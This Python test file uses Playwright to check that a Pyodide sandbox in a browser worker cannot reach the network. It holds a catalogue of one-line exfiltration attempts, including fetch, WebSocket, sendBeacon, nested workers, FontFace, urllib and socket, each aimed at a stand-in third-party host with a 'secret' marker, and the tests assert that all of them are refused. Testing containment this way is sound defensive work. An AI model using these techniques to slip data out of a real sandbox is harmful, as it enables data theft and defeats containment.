"""Python in the page can reach nothing, whatever it tries."""

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, Route

from macros.pyodide import PIN

#: Each way out is tried by code that the worker itself runs, aimed at the pinned CDN, at the
#: site and at a third party. It has left the box if the request is seen outside.
WAYS = {
    "fetch": "fetch(target)",
    "real fetch": "Object.getPrototypeOf(self).fetch?.call(self, target)",
    "XMLHttpRequest": "new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open('GET', target); x.send(); })",
    "WebSocket": "new Promise((yes, no) => { const s = new WebSocket(target.replace('http', 'ws')); s.onopen = yes; s.onerror = no; })",
    "EventSource": "new Promise((yes, no) => { const s = new EventSource(target); s.onopen = yes; s.onerror = no; })",
    "import": "import(target)",
    "nested worker": "new Promise((yes, no) => { const w = new Worker(target, {type: 'module'}); w.onmessage = yes; w.onerror = no; })",
    "nested blob worker": "new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob([`fetch('${target}').then(() => postMessage(1), () => { throw 0 })`])), {type: 'module'}); w.onmessage = yes; w.onerror = no; setTimeout(no, 3000); })",
    "eval": "Promise.resolve(eval('fetch(target)'))",
    "cache": "caches.open('x').then((cache) => cache.add(target))",
    "font": "new FontFace('x', `url(${target})`).load()",
    "WebTransport": "new WebTransport(target.replace('http:', 'https:')).ready",
    "sendBeacon": "navigator.sendBeacon(target) ? Promise.resolve() : Promise.reject()",
}

TRY = """async ([frameUrl, source]) => {
  const frame = document.createElement("iframe");
  const ready = new Promise((done) => addEventListener("message", (e) => e.data?.box === "ready" && done()));
  frame.src = frameUrl;
  document.body.append(frame);
  await ready;
  const { port1, port2 } = new MessageChannel();
  const answer = new Promise((done) => { port1.onmessage = ({ data }) => done(data); });
  frame.contentWindow.postMessage({ source }, location.origin, [port2]);
  return Promise.race([answer, new Promise((done) => setTimeout(done, 15000, "no answer"))]);
}"""

WORKER = """
let directive = "";
self.addEventListener("securitypolicyviolation", (event) => { directive = event.effectiveDirective; });
self.addEventListener("message", ({ data: { port } }) => {
  const target = %r;
  const tell = (result) => setTimeout(() => port.postMessage([result, directive]), 50);
  (async () => %s)().then(() => tell("out"), () => tell("refused"));
});
"""

#: A connection that the policy refuses is told apart from one that merely found nobody.
BY_POLICY = {"fetch", "real fetch", "XMLHttpRequest", "WebSocket", "EventSource", "import", "eval"}


@pytest.fixture
def seen(context: BrowserContext) -> list[str]:
    """Every request with the secret that gets past the policy, wherever it goes."""
    requests: list[str] = []

    def refuse(route: Route) -> None:
        requests.append(route.request.url)
        route.abort()

    context.route("**/*secret*", refuse)
    return requests


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("target", ["site", "cdn", "stranger"])
def test_no_way_out(
    context: BrowserContext, address: str, site: Path, seen: list[str], way: str, target: str
) -> None:
    """The browser itself refuses, and no request is seen."""
    aims = {
        "site": f"{address}index.html",
        "cdn": f"{PIN.base}pyodide.mjs",
        "stranger": "https://fabrikam.com/",
    }
    aim = f"{aims[target]}?secret"
    page = context.new_page()
    page.goto(f"{address}configuration/")
    box = next(site.glob("runtime/box.*.html"))

    answer = page.evaluate(TRY, [f"{address}runtime/{box.name}", WORKER % (aim, WAYS[way])])

    assert "refused" == answer[0]
    assert answer[1] or way not in BY_POLICY
    assert [] == seen


#: Python in the worker, with its whole library and Pyodide's bridge to everything that the browser offers there.
PYTHON = """
import json
results = {}
async def attempt(name, make):
    try:
        made = make()
        if hasattr(made, "then"):
            await made
        results[name] = "out"
    except BaseException as error:
        results[name] = "refused"

import js, urllib.request, socket
from pyodide.ffi import to_js
from pyodide.http import pyfetch, open_url
await attempt("js.fetch", lambda: js.fetch(TARGET))
await attempt("open_url", lambda: open_url(TARGET))
await attempt("js.import", lambda: js.eval(f"import('{TARGET}')"))
await attempt("xhr", lambda: [x := js.XMLHttpRequest.new(), x.open("GET", TARGET, False), x.send()])
await attempt("urllib", lambda: urllib.request.urlopen(TARGET, timeout=3))
await attempt("socket", lambda: socket.create_connection(("fabrikam.com", 443), timeout=3).recv(1)[0])
await attempt("worker", lambda: js.Worker.new("data:text/javascript,"))
await attempt("caches", lambda: js.caches.open("checkup"))
await attempt("indexedDB", lambda: js.indexedDB.open("checkup"))
await attempt("BroadcastChannel", lambda: js.BroadcastChannel.new("checkup"))
await attempt("files", lambda: js.navigator.storage.getDirectory())
await attempt("buckets", lambda: js.navigator.storageBuckets.open("checkup"))
await attempt("locks", lambda: js.navigator.locks.query())
await attempt("old files", lambda: js.webkitRequestFileSystem(0, 1, print, print))
await attempt("notification", lambda: js.Notification.new("checkup"))
await attempt("fresh global", lambda: js.eval("Object.getPrototypeOf(self).constructor.prototype.caches").keys())
await attempt("import_", lambda: __import__("pyodide_js").loadPackage("micropip"))
try:
    await pyfetch(TARGET)
    results["pyfetch"] = "out"
except BaseException:
    results["pyfetch"] = "refused"
json.dumps(results)
"""

RUN_PYTHON = """async ([base, runtime, names, code]) => {
  const { Box } = await import(runtime["box-client.js"]);
  const { site } = await import([...performance.getEntriesByType("resource")].find((e) => e.name.includes("/site.")).name);
  const box = new Box();
  const source = (await (await fetch(runtime["worker.js"])).text()).replace(
    "return pyodide.pyimport(",
    "methods.python = async (code) => JSON.parse(await pyodide.runPythonAsync(code));\\n  return pyodide.pyimport(",
  );
  await box.open(Promise.resolve(source));
  const put = async (name, bytes) => box.call("put", { name, bytes }, 120000);
  for (const name of names) await put(name, await (await fetch(base + name)).arrayBuffer());
  for (const name of ["catalogue.zip.gz", "catalogue.json"]) {
    await put(name, await (await fetch(runtime[name])).arrayBuffer());
  }
  const stock = (await fetch(`${base}python_stdlib.zip`)).body.pipeThrough(new CompressionStream("gzip"));
  await put("library.zip.gz", await new Response(stock).arrayBuffer());
  await box.call("start", site.pyodide.lock, 120000);
  await box.call("load", null, 120000);
  return box.call("python", code, 60000);
}"""


def test_python_cannot_call_out(
    opened: Callable[[str], Page], site: Path, address: str, seen: list[str]
) -> None:
    """Python code in the running worker fails by every way that it has."""
    page = opened("configuration/")
    files = {
        name: f"{address}runtime/{next(site.glob(f'runtime/{stem}.*.{suffix}')).name}"
        for name in ("box-client.js", "worker.js", "catalogue.zip.gz", "catalogue.json")
        for stem, _, suffix in [name.partition(".")]
    }
    code = PYTHON.replace("TARGET", "'https://fabrikam.com/?secret'")
    argument = [PIN.base, files, list(PIN.files), code]

    results = page.evaluate(RUN_PYTHON, argument)

    assert {} == {way: result for way, result in results.items() if result != "refused"}
    assert [] == seen
